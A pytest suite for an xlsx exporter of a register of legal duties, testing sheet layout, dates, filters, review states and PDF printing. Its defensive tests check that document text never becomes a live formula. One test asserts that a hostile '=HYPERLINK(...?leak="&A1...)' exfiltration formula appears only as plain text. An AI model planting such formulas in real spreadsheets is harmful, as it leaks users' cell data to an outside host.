"""The workbook: sheets, cells, formulas of our own, and how it looks when printed."""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from export_fakes import hostile, mixed
from hypothesis import given
from hypothesis import strategies as st

from dutybook.errors import BadRequest
from dutybook.export import export, sheet
from dutybook.export.content import clean, count_utf16_units, shorten
from dutybook.store import Register, open_register
from dutybook.store.judgements.change import Change
from dutybook.store.judgements.reviews import change


def book(tmp_path: Path, register: Register, filters: dict[str, object] | None = None) -> Any:
    export(register, tmp_path / "a.xlsx", filters)
    return openpyxl.load_workbook(tmp_path / "a.xlsx")


def table(worksheet: Any) -> list[dict[str, Any]]:
    header, *rows = worksheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_sheets_headers_and_set_up(tmp_path: Path) -> None:
    workbook = book(tmp_path, mixed())
    assert workbook.sheetnames == [
        *("Cover", "Register", "Details", "Deadlines", "Changes", "Documents", "Rejected", "Glossary", "About"),
        "_dutybook",
    ]
    frozen = {
        "Register": "C2",
        "Details": "C2",
        "Deadlines": "B2",
        "Changes": "C2",
        "Documents": "B2",
        "Rejected": "A2",
        "Glossary": "B2",
    }
    for name, at in frozen.items():
        worksheet = workbook[name]
        assert worksheet.freeze_panes == at
        assert worksheet.auto_filter.ref == worksheet.dimensions
        assert worksheet.print_title_rows == "$1:$1"
    for worksheet in workbook.worksheets[:-1]:
        assert worksheet.page_setup.orientation == "landscape"
        assert worksheet.page_setup.fitToWidth in (None, 1), "one page wide, which is the default"
        assert worksheet.page_setup.fitToHeight == 0
        assert worksheet.sheet_properties.pageSetUpPr.fitToPage


def test_dates_are_dates_and_days_left_is_our_formula(tmp_path: Path) -> None:
    worksheet = book(tmp_path, mixed())["Details"]
    rows = table(worksheet)
    dated = [row for row in rows if row["Due"]]
    assert [row["Due"] for row in dated] == [datetime(2027, 5, 1)] * 2
    assert dated[0]["Days left"] == '=IF(ISNUMBER($F4),$F4-TODAY(),"")'
    assert {row["Why no date"] for row in dated} == {"the event that starts the period is not dated"}
    assert {"F2:F6", "G2:G6"} <= {str(rule.sqref) for rule in worksheet.conditional_formatting}


@pytest.mark.parametrize(
    "name", ["Register", "Details", "Deadlines", "Changes", "Documents", "Rejected", "Glossary", "About"]
)
def test_no_formula_comes_from_a_document(name: str, tmp_path: Path) -> None:
    worksheet = book(tmp_path, hostile())[name]
    cells = [cell for row in worksheet.iter_rows() for cell in row]
    formulas = {cell.value for cell in cells if cell.data_type == "f"}
    ours = re.compile(
        r'=IF\(ISNUMBER\(\$F\d+\),\$F\d+-TODAY\(\),""\)|=HYPERLINK\("https://duties.example.org/\w+/\w+","(?:[^"]|"")*"\)'
    )
    assert all(ours.fullmatch(value.replace("$A", "$F")) for value in formulas)
    assert not any(cell.hyperlink for cell in cells)


def test_the_id_is_there_and_hidden(tmp_path: Path) -> None:
    register = mixed()
    worksheet = book(tmp_path, register)["Details"]
    assert [row["Id"] for row in table(worksheet)] == [norm.id for norm in register.norms()]
    last = openpyxl.utils.get_column_letter(worksheet.max_column)
    assert worksheet.cell(1, worksheet.max_column - 1).value == "Id"
    # openpyxl keeps neighbours with equal settings as one group under the first letter.
    hidden = [(d.min, d.max) for d in worksheet.column_dimensions.values() if d.hidden]
    assert any(low <= openpyxl.utils.column_index_from_string(last) <= high for low, high in hidden)


def test_deadlines_then_dates_of_the_acts(tmp_path: Path) -> None:
    rows = table(book(tmp_path, mixed())["Deadlines"])
    types = [row["Type"] for row in rows]
    assert sorted(types[:4]) == ["fixed", "fixed", "period", "period"]
    assert sorted(types[4:]) == ["entry into force", "entry into force", "review", "review"]
    assert len(rows) == 8
    window = table(book(tmp_path, mixed(), {"deadline_after": "2027-01-01"})["Deadlines"])
    assert [row["Due"] for row in window] == [datetime(2027, 5, 1)] * 2, (
        "no date outside of the window that was asked for"
    )


def test_documents_follow_the_filter_and_unread_ones_are_listed_without(tmp_path: Path) -> None:
    rows = table(book(tmp_path, mixed())["Documents"])
    assert [row["Status"] for row in rows] == ["unreadable", "read", "read"]
    assert rows[0]["Why not (fully) read"] == "broken: no page tree"
    assert rows[1]["Published"] is None
    assert rows[2]["Published"] == datetime(2026, 3, 1)
    filtered = book(tmp_path, mixed(), {"words": "Logbuch"})
    assert [row["Title"] for row in table(filtered["Documents"])] == ["Fährverordnung B"]
    assert len(table(filtered["Rejected"])) == 1
    assert "Fährverordnung B" in [row[0].value for row in filtered["About"].iter_rows()]


def test_about_says_what_made_it(tmp_path: Path) -> None:
    worksheet = book(tmp_path, mixed(), {"modality": "obligation"})["About"]
    said = {row[0].value: row[1].value for row in worksheet.iter_rows()}
    assert said["Made by"].startswith("Dutybook ")
    assert len(said["Fährverordnung A"]) == 64


def test_the_cover_has_counts_and_filters(tmp_path: Path) -> None:
    filters = {"modality": "obligation", "deadline_before": "2028-01-01"}
    export(mixed(), tmp_path / "a.xlsx", filters, options={"now": datetime(2027, 4, 20, tzinfo=UTC)})
    # The first word on a label counts: further down are what the words of the register are counted by.
    rows = list(openpyxl.load_workbook(tmp_path / "a.xlsx")["Cover"].iter_rows(values_only=True))
    said = {label: (number, text) for label, number, text in reversed(rows)}
    assert said["Filters"][1] == "Kind: obligation\nDue by: 2028-01-01"
    assert [said[name][0] for name in ("Register", "Details", "Documents")] == [2, 2, 2]
    assert [said[name][0] for name in ("Overdue", "Due in 30 days")] == [0, 2]
    assert said["obligation"][0] == "=COUNTIF('Register'!$E:$E,\"obligation\")"
    shown = openpyxl.load_workbook(tmp_path / "a.xlsx", data_only=True)["Cover"]
    counted = {row[0]: row[1] for row in shown.iter_rows(values_only=True)}
    assert (counted["obligation"], counted["prohibition"]) == (2, 0)


def test_only_what_somebody_took_on_is_overdue(tmp_path: Path) -> None:
    register = mixed()
    dated = [norm.id for norm in register.norms() if norm.due]
    change(register, dated[:1], Change(owner="anna"), by="anna")
    export(register, tmp_path / "a.xlsx", options={"now": datetime(2030, 1, 1, tzinfo=UTC)})
    workbook = openpyxl.load_workbook(tmp_path / "a.xlsx")
    counted = {row[0]: row[1] for row in workbook["Cover"].iter_rows(values_only=True)}
    assert counted["Overdue"] == 1
    ours = [row["Ours"] for row in table(workbook["Deadlines"])]
    assert "yes" in ours
    rules = [rule for rules in workbook["Deadlines"].conditional_formatting for rule in rules.rules]
    past = [rule.formula[0] for rule in rules if "<TODAY()" in rule.formula[0]]
    assert past
    assert all('="yes"' in formula for formula in past), "dates of acts, and of others, are never in red"


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheet, "MAX_ROWS", 4)
    with pytest.raises(BadRequest, match=r"'Register' cannot hold more than 4 rows; narrow .* or export to \.csv"):
        export(mixed(), tmp_path / "a.xlsx")
    assert not list(tmp_path.iterdir())


def test_an_empty_register_still_explains_itself(tmp_path: Path) -> None:
    workbook = book(tmp_path, open_register(":memory:"))
    assert workbook["Details"].max_row == 1
    assert workbook["About"]["B2"].value.startswith("Dutybook ")


@given(st.text(), st.integers(60, 200))
def test_text_fits_by_the_spreadsheet_s_own_count(text: str, limit: int) -> None:
    fitted = shorten(text * 20, limit)
    assert count_utf16_units(fitted) <= limit
    assert fitted == text * 20 or f"{len(text * 20):,} characters" in fitted


@given(st.text(st.characters(codec=None, categories=None)))
def test_clean_text_can_be_stored_anywhere(text: str) -> None:
    cleaned = clean(text)
    assert cleaned.encode("utf-8").decode("utf-8") == cleaned
    assert clean(cleaned) == cleaned
    assert not any(ord(character) < 32 and character not in "\t\n" for character in cleaned)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_another_program_opens_and_prints_it(tmp_path: Path) -> None:
    import pypdfium2

    export(hostile(long="Ein Satz, der nicht endet, " * 40), tmp_path / "a.xlsx")
    home = f"-env:UserInstallation={(tmp_path / 'home').as_uri()}"
    command = [
        "soffice",
        home,
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "a.xlsx"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    pdf = pypdfium2.PdfDocument(tmp_path / "a.pdf")
    try:
        page = pdf[0]
        text = page.get_textpage().get_text_range()
        assert page.get_width() > page.get_height()
        assert "obligation" in text, "the cover"
        text = pdf[2].get_textpage().get_text_range() + pdf[1].get_textpage().get_text_range()
        assert "Duty" in text
        assert '=HYPERLINK("http://example.org/?leak="&A1,"open")' in text.replace("\r\n", "")
        # The other program computed our formula: a number of days stands beside the date.
        assert "#" not in text
        assert len(pdf) <= 14, "each sheet is as wide as its page"
    finally:
        pdf.close()


def test_what_people_rejected_is_listed_as_such(tmp_path: Path) -> None:
    register = mixed()
    norm = next(n for n in register.norms() if n.quote.endswith("1. Mai 2027."))
    wanted = Change(finding="rejected", reason="a heading")
    change(register, [norm.id], wanted, by="anna", now=datetime(2026, 11, 27, tzinfo=UTC))
    workbook = book(tmp_path, register)
    assert norm.quote not in [row["What the text says"] for row in table(workbook["Details"])]
    row = table(workbook["Rejected"])[-1]
    assert (row["What the text says"], row["Why it is not a norm"], row["Decided by"]) == (
        norm.quote,
        "a heading",
        "anna, 2026-11-27",
    )
    assert len(table(book(tmp_path, register, {"language": "en"})["Rejected"])) == 1
    shown = table(book(tmp_path, register, {"review_state": "rejected"})["Details"])
    assert [r["Result of review"] for r in shown] == ["rejected"]


def test_filters_are_said_in_the_words_of_the_reader(tmp_path: Path) -> None:
    export(mixed(), tmp_path / "a.xlsx", {"modality": ("obligation", "prohibition"), "all_versions": True}, reader="de")
    cover = openpyxl.load_workbook(tmp_path / "a.xlsx")["Deckblatt"]
    said = {row[0].value: row[2].value for row in cover.iter_rows()}
    assert said["Filter"] == "Art der Norm: Pflicht, Verbot\nAlle Fassungen: ja"
